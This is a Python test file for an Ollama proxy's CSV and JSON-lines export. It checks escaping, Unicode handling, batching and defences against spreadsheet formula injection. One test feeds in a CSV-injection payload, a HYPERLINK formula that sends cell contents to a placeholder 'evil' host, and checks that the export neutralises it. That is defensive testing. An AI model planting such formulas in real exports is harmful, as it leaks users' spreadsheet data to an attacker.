"""Calls as CSV and as lines of JSON: read back by other programs, and harmless in a spreadsheet."""

from __future__ import annotations

import csv
import io
import json
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as some

from ollama_proxy.derived import KEYS, view
from ollama_proxy.exchange import Call
from ollama_proxy.export import FORMATS, PORTION_CHARACTERS, PORTION_ROWS, portions
from tests.storage.calls import make_call


def read_csv(calls: list[Call]) -> list[dict[str, str]]:
    written = FORMATS["csv"].head + FORMATS["csv"].lines(calls)
    return list(csv.DictReader(io.StringIO(written.decode(), newline=""), strict=True))


def cell(**fields: Any) -> str:
    (name,) = fields
    (row,) = read_csv([make_call(**fields)])
    return row[name]


def test_the_first_line_of_csv_names_the_keys_of_a_call() -> None:
    assert FORMATS["csv"].head.decode() == ",".join(KEYS) + "\r\n"


def test_each_call_is_a_line_of_csv_that_ends_as_the_rfc_says() -> None:
    lines = FORMATS["csv"].lines([make_call(), make_call()])
    assert lines.count(b"\r\n") == 2 and lines.endswith(b"\r\n")


@pytest.mark.parametrize(
    ("fields", "expected"),
    [
        ({"model": None}, ""),
        ({"streamed": True}, "true"),
        ({"streamed": False}, "false"),
        ({"output_tokens": -5}, "-5"),
        ({"duration": 0.1}, "0.1"),
        ({"options": {"stop": ["=a"], "seed": 1}}, '{"stop":["=a"],"seed":1}'),
        ({"tool_names": ["=x"]}, '["=x"]'),
        ({"prompt": 'says "hi", then\r\nleaves'}, 'says "hi", then\r\nleaves'),
        ({"prompt": "perché 🦙"}, "perché 🦙"),
        ({"prompt": "a\udc80"}, "a?"),
    ],
)
def test_a_value_as_a_cell(fields: dict[str, Any], expected: str) -> None:
    assert cell(**fields) == expected


@pytest.mark.parametrize("first", list("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20"))
def test_no_text_is_a_formula(first: str) -> None:
    text = first + 'HYPERLINK("http://evil/?"&A1,"x")'
    for name in ("model", "client", "error", "prompt", "response", "path"):
        assert cell(**{name: text}) == "'" + text


@given(some.text(min_size=1))
def test_a_text_is_read_back_without_its_apostrophe(text: str) -> None:
    assert cell(prompt=text).removeprefix("'") == text


def test_a_line_of_json_is_the_row_that_rest_has() -> None:
    calls = [make_call(prompt="a\nb\u2028c", options={"a": 1}), make_call(prompt="a\udc80")]
    first, second = FORMATS["jsonl"].lines(calls).decode().removesuffix("\n").split("\n")
    assert json.loads(first) == view(calls[0])
    assert json.loads(second)["prompt"] == "a?"
    assert FORMATS["jsonl"].head == b""


def test_portions_are_short_by_rows_and_by_text() -> None:
    few = [make_call() for _ in range(2 * PORTION_ROWS + 1)]
    assert [len(portion) for portion in portions(few)] == [PORTION_ROWS, PORTION_ROWS, 1]
    long = [make_call(prompt="x" * (PORTION_CHARACTERS // 2)) for _ in range(5)]
    assert [len(portion) for portion in portions(long)] == [2, 2, 1]
    assert [call for portion in portions(long) for call in portion] == long
    assert list(portions([])) == []
